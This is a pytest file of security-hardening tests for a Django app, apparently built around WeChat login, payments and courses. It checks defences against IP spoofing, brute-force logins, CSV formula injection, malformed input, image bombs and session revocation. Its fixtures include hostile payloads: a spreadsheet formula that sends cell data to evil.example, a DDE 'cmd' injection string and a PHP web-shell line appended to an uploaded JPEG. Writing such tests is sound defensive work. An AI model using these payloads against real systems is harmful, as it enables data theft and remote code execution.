"""Issue 16, probed as an attacker would: each test is one finding of the probe list, failing before
the hardening and passing after it. Outages (Redis, PostgreSQL) are in test_outages.py.
"""

from __future__ import annotations

import pytest
from django.test import Client, RequestFactory
from rest_framework.test import APIClient

from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

LOGIN = "/api/v1/auth/wechat/miniprogram/"


# ---- one client-IP rule ---------------------------------------------------------------------------


def test_throttles_do_not_trust_a_rotating_forwarded_for(throttle_rates):
    throttle_rates(login="5/min")
    codes = [
        APIClient()
        .post(LOGIN, {"code": "x"}, format="json", HTTP_X_FORWARDED_FOR=f"203.0.113.{i}")
        .status_code
        for i in range(10)
    ]
    assert codes[:5] == [400] * 5 and codes[5:] == [429] * 5


@pytest.mark.parametrize(
    ("count", "cidrs", "forwarded", "remote", "expected"),
    [
        (0, [], "203.0.113.9", "198.51.100.1", "198.51.100.1"),  # no proxy: the header is ignored
        (1, [], "1.1.1.1, 203.0.113.9", "10.0.0.2", "203.0.113.9"),  # one proxy: its hop, not the forgery
        (1, [], "", "10.0.0.2", "10.0.0.2"),
        (2, [], "203.0.113.9, 10.0.0.3", "10.0.0.2", "203.0.113.9"),
        (0, ["10.0.0.0/8"], "1.1.1.1, 203.0.113.9, 10.0.0.3", "10.0.0.2", "203.0.113.9"),
        (0, ["10.0.0.0/8"], "1.1.1.1", "198.51.100.1", "198.51.100.1"),  # not from our proxy
        (1, [], "<script>, not-an-ip", "10.0.0.2", "10.0.0.2"),  # garbage never becomes a key
    ],
)
def test_one_client_ip_rule_from_configuration(settings, count, cidrs, forwarded, remote, expected):
    from core.ip import client_ip
    from payments.orders.views import client_ip as payer_ip

    settings.TRUSTED_PROXY_COUNT = count
    settings.TRUSTED_PROXY_CIDRS = cidrs
    request = RequestFactory().get("/", HTTP_X_FORWARDED_FOR=forwarded, REMOTE_ADDR=remote)
    assert client_ip(request) == expected
    assert payer_ip(RequestFactory().get("/", HTTP_X_FORWARDED_FOR=forwarded, REMOTE_ADDR=remote)) == expected


def test_allauth_keys_its_rate_limits_on_the_same_address(settings):
    from allauth.account.adapter import get_adapter

    settings.TRUSTED_PROXY_COUNT = 1
    request = RequestFactory().get("/", HTTP_X_FORWARDED_FOR="1.1.1.1, 203.0.113.7", REMOTE_ADDR="10.0.0.2")
    assert get_adapter(request).get_client_ip(request) == "203.0.113.7"


# ---- guessing is slow -----------------------------------------------------------------------------


def test_admin_login_locks_out_after_wrong_passwords_even_with_the_right_one():
    UserFactory(username="finance", is_staff=True, password="Right-Passw0rd-2026")
    client = Client()
    for _ in range(40):
        client.post("/admin/login/", {"username": "finance", "password": "wrong"})
    response = client.post("/admin/login/", {"username": "finance", "password": "Right-Passw0rd-2026"})
    assert "_auth_user_id" not in client.session
    assert "尝试次数过多" in response.content.decode()


def test_lockout_message_is_the_same_for_an_account_that_does_not_exist():
    UserFactory(username="finance", is_staff=True, password="Right-Passw0rd-2026")
    pages = {}
    for name in ("finance", "nobody-here"):
        client = Client(REMOTE_ADDR=f"198.51.100.{len(name)}")
        for _ in range(6):
            response = client.post("/admin/login/", {"username": name, "password": "wrong"})
        pages[name] = response.content.decode()
    assert all("尝试次数过多" in page for page in pages.values())


def test_web_login_locks_out_per_account_and_per_address(settings):
    UserFactory(username="webmember", password="Right-Passw0rd-2026")
    client = Client()
    for _ in range(6):
        client.post("/accounts/login/", {"login": "webmember", "password": "wrong"})
    client.post("/accounts/login/", {"login": "webmember", "password": "Right-Passw0rd-2026"})
    assert "_auth_user_id" not in client.session

    # one address guessing many accounts is stopped too
    settings.LOGIN_LOCKOUT_IP = 10
    UserFactory(username="victim", password="Right-Passw0rd-2026")
    guesser = Client(REMOTE_ADDR="203.0.113.50")
    for i in range(10):
        guesser.post("/accounts/login/", {"login": f"someone{i}", "password": "wrong"})
    guesser.post("/accounts/login/", {"login": "victim", "password": "Right-Passw0rd-2026"})
    assert "_auth_user_id" not in guesser.session


def test_a_successful_login_before_the_limit_clears_the_account_count():
    UserFactory(username="forgetful", password="Right-Passw0rd-2026")
    client = Client()
    for _ in range(3):
        client.post("/accounts/login/", {"login": "forgetful", "password": "wrong"})
    client.post("/accounts/login/", {"login": "forgetful", "password": "Right-Passw0rd-2026"})
    assert client.session.get("_auth_user_id")


# ---- allauth's rate limits answer 429 -------------------------------------------------------------


def test_signups_past_the_sms_limit_of_one_address_answer_429_not_500():
    client = Client(raise_request_exception=False)
    statuses = []
    for i in range(5):
        client.cookies.clear()
        response = client.post(
            "/accounts/signup/",
            {"phone": f"1380013810{i}", "password1": "Zhiquan-2026-pw", "password2": "Zhiquan-2026-pw"},
        )
        statuses.append(response.status_code)
        if response.status_code == 302:
            statuses.append(client.get(response["Location"]).status_code)
    assert 500 not in statuses and 429 in statuses, statuses
    limited = statuses.index(429)
    assert "操作太频繁" in response.content.decode() or limited < len(statuses) - 1

    client.cookies.clear()
    login = client.post("/accounts/login/", {"login": "13800138104", "password": "Zhiquan-2026-pw"})
    assert login.status_code in (200, 302, 429), login.status_code


# ---- the notify endpoint keeps only verified notifications in full ------------------------------------


def test_rejected_notifications_are_counted_and_sampled_not_stored(settings, caplog):
    import os

    from core.models import AttemptCounter
    from payments.models import PaymentNotification

    settings.REJECTED_ALERT_PER_MINUTE = 20
    client = Client()
    statuses = {
        client.post(
            "/payments/wechatpay/notify/",
            os.urandom(100_000).hex()[:100_000],
            content_type="application/json",
        ).status_code
        for _ in range(50)
    }
    assert statuses <= {400, 401}
    stored = list(PaymentNotification.objects.values_list("raw_body", flat=True))
    assert len(stored) <= 2 * settings.REJECTED_SAMPLES_PER_MINUTE  # a minute may turn mid-test
    assert sum(len(body) for body in stored) <= 10 * 2100  # ~20 KB at most, not 5 MB
    counted = AttemptCounter.objects.filter(key="rejected:wechatpay_notify").values_list("count", flat=True)
    assert sum(counted) == 50
    assert [r for r in caplog.records if r.getMessage().startswith("ALERT rejected wechatpay_notify")]


# ---- CSV cells never run as formulas ----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_compliance_csv_escapes_formula_cells():
    import csv
    import io

    from django.urls import reverse

    from tests.referrals import factories as rf

    top = UserFactory(nickname=FORMULA)
    rf.bind(UserFactory(nickname="@SUM(1+1)"), top)
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(reverse("referrals:compliance_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]


def test_admin_attendance_export_escapes_formula_cells():
    from courses.events.registrations import event_register
    from courses.models import Event
    from tests.courses import factories as cf

    event = cf.make_event(price_fen=0, title="-2+3+cmd|' /C calc'!A0")
    event_register(user=UserFactory(nickname=FORMULA), event=event)
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    export = client.post(
        "/admin/courses/event/",
        {"action": "export_attendance", "_selected_action": [e.pk for e in Event.objects.all()]},
    )
    text = export.content.decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text and "'-2+3+cmd" in text


# ---- bad input answers 4xx, never 500 ---------------------------------------------------------------


def _api(user=None) -> APIClient:
    client = APIClient(raise_request_exception=False)
    if user is not None:
        client.force_authenticate(user)
    return client


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,  # RecursionError in json
        b'{"a":' * 40 + b"1" + b"}" * 40,  # past the depth limit
        b'{"code": "' + b"x" * (2 * 1024 * 1024) + b'"}',  # past the size limit
        b'{"code": "\xff\xfe\xfa"}',  # not UTF-8
    ],
    ids=["nested-100k", "nested-40", "2MiB", "invalid-utf8"],
)
def test_nested_huge_and_invalid_json_answers_400(body):
    response = _api().post(LOGIN, body, content_type="application/json")
    assert response.status_code == 400
    assert set(response.json()) == {"code", "message", "fields"}


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/membership/tiers/?tier=%00",
        "/api/v1/courses/?page=99999999999999999999999",
        "/api/v1/courses/?page_size=99999999999999999999999",
        "/api/v1/courses/?page=%D9%A1",  # Arabic-Indic 1
        "/api/v1/courses/?q=%E2%80%AEabc",  # right-to-left override
        "/courses/?page=99999999999999999999999",
        "/circles/?page=%00",
    ],
)
def test_bad_query_parameters_answer_400(path):
    response = _api(UserFactory()).get(path)
    assert response.status_code == 400, (path, response.status_code)


def test_token_refresh_for_a_deleted_user_answers_401():
    from rest_framework_simplejwt.tokens import RefreshToken

    user = UserFactory()
    refresh = str(RefreshToken.for_user(user))
    user.delete()
    response = _api().post("/api/v1/auth/token/refresh/", {"refresh": refresh}, format="json")
    assert response.status_code == 401 and response.json()["code"] == "authentication_failed"


def test_non_ascii_digits_are_not_an_item_id():
    response = _api(UserFactory()).post(
        "/api/v1/orders/", {"item_type": "course", "item_id": "١", "channel": "sandbox"}, format="json"
    )
    assert response.status_code == 400 and "item_id" in response.json()["fields"]


def test_zero_width_and_bidi_characters_are_removed_from_nicknames_and_posts():
    user = UserFactory()
    response = _api(user).patch("/api/v1/me/", {"nickname": "ad\u200bmin\u202e\u2066"}, format="json")
    assert response.status_code == 200 and response.json()["nickname"] == "admin"
    user.refresh_from_db()
    assert user.nickname == "admin"

    from core.text import clean_text

    assert clean_text("e\u0301\u200d\ufeff") == "é"  # NFC, invisible characters gone


def test_web_form_posts_are_cleaned_too():
    from core.middleware import RequestGuardMiddleware

    seen = {}

    def view(request):
        seen.update(request.POST.dict())
        return None

    request = RequestFactory().post("/account/profile/", {"real_name": "张\u202e三\u200b", "city": "上海"})
    RequestGuardMiddleware(view)(request)
    assert seen == {"real_name": "张三", "city": "上海"}


# ---- leaks --------------------------------------------------------------------------------------------


def test_a_paid_questions_text_never_shows_in_the_public_preview():
    from circles.models import Post
    from tests.circles import factories as cf

    circle = cf.make_circle(owner=UserFactory())
    asker = cf.make_member(circle=circle)
    question = Post.objects.create(
        circle=circle, author=asker, kind=Post.Kind.QUESTION, title="我公司的股权秘密怎么处理", body="…"
    )
    Post.objects.create(
        circle=circle,
        author=circle.owner,
        kind=Post.Kind.ANSWER,
        title="回答：我公司的股权秘密怎么处理",
        body="…",
        question=question,
    )
    page = Client().get(f"/circles/{circle.pk}/")
    api = APIClient().get(f"/api/v1/circles/{circle.pk}/")
    for response in (page, api):
        assert response.status_code == 200
        assert "股权秘密" not in response.content.decode()
    assert "一条回答（加入后可见）" in api.content.decode()


def _png_declaring(width: int, height: int) -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def test_a_tiny_png_declaring_a_huge_canvas_is_refused():
    from django.core.files.uploadedfile import SimpleUploadedFile

    from core.errors import ApplicationError
    from core.images import validate_images

    bomb = _png_declaring(13000, 13000)
    assert len(bomb) < 100
    with pytest.raises(ApplicationError) as refused:
        validate_images([SimpleUploadedFile("x.png", bomb, content_type="image/png")])
    assert refused.value.code in ("image_too_large", "invalid_image")


def test_uploads_are_re_encoded_without_exif_gps():
    import io

    from django.core.files.storage import default_storage
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from core.images import store_images, validate_images

    photo = Image.new("RGB", (64, 48), (200, 30, 30))
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPS: Shanghai
    exif[0x010F] = "SpyCam"
    raw = io.BytesIO()
    photo.save(raw, "JPEG", exif=exif)
    raw = raw.getvalue() + b"<?php system($_GET['c']); ?>"  # trailing payload
    with Image.open(io.BytesIO(raw)) as original:
        assert original.getexif().get(0x010F) == "SpyCam"

    [name] = store_images(validate_images([SimpleUploadedFile("p.jpg", raw)]), folder="test-hardening")
    try:
        stored = default_storage.open(name).read()
        with Image.open(io.BytesIO(stored)) as image:
            assert image.format == "JPEG" and image.size == (64, 48)
            assert not image.getexif() and "exif" not in image.info
        assert b"<?php" not in stored and b"SpyCam" not in stored
    finally:
        default_storage.delete(name)


# ---- sessions the member controls -------------------------------------------------------------------


def _miniprogram_login(fake_wechat, openid: str) -> dict:
    code = fake_wechat.login_code(openid=openid)
    response = APIClient().post(LOGIN, {"code": code}, format="json")
    assert response.status_code == 200
    return response.json()


def test_miniprogram_logout_revokes_its_refresh_token(fake_wechat):
    pair = _miniprogram_login(fake_wechat, "oLOGOUTopenid0000000000000001")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {pair['access']}")
    assert client.post("/api/v1/auth/logout/", {"refresh": pair["refresh"]}, format="json").status_code == 204
    again = APIClient().post("/api/v1/auth/token/refresh/", {"refresh": pair["refresh"]}, format="json")
    assert again.status_code == 401


def test_logout_refuses_someone_elses_refresh_token(fake_wechat):
    mine = _miniprogram_login(fake_wechat, "oMINEopenid00000000000000001")
    theirs = _miniprogram_login(fake_wechat, "oTHEIRSopenid000000000000001")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {mine['access']}")
    assert (
        client.post("/api/v1/auth/logout/", {"refresh": theirs["refresh"]}, format="json").status_code == 400
    )
    still = APIClient().post("/api/v1/auth/token/refresh/", {"refresh": theirs["refresh"]}, format="json")
    assert still.status_code == 200


def test_log_out_everywhere_ends_web_sessions_and_miniprogram_tokens(fake_wechat):
    from core.models import WeChatIdentity

    pair = _miniprogram_login(fake_wechat, "oEVERYWHEREopenid00000000001")
    user = WeChatIdentity.objects.get(openid="oEVERYWHEREopenid00000000001").user
    user.set_password("Right-Passw0rd-2026")
    user.save()
    laptop, phone = Client(), Client()
    for browser in (laptop, phone):
        browser.post("/accounts/login/", {"login": user.username, "password": "Right-Passw0rd-2026"})
        assert browser.get("/account/").status_code == 200

    response = laptop.post("/account/logout-everywhere/")

    assert response.status_code == 302
    assert phone.get("/account/").status_code == 302  # sent to the login page
    assert laptop.get("/account/").status_code == 302
    refresh = APIClient().post("/api/v1/auth/token/refresh/", {"refresh": pair["refresh"]}, format="json")
    assert refresh.status_code == 401


def test_production_healthz_tells_only_its_status(settings, client):
    settings.HEALTHZ_DETAILS = False
    body = client.get("/healthz").json()
    assert body == {"status": "ok"} or body == {"status": "degraded"}
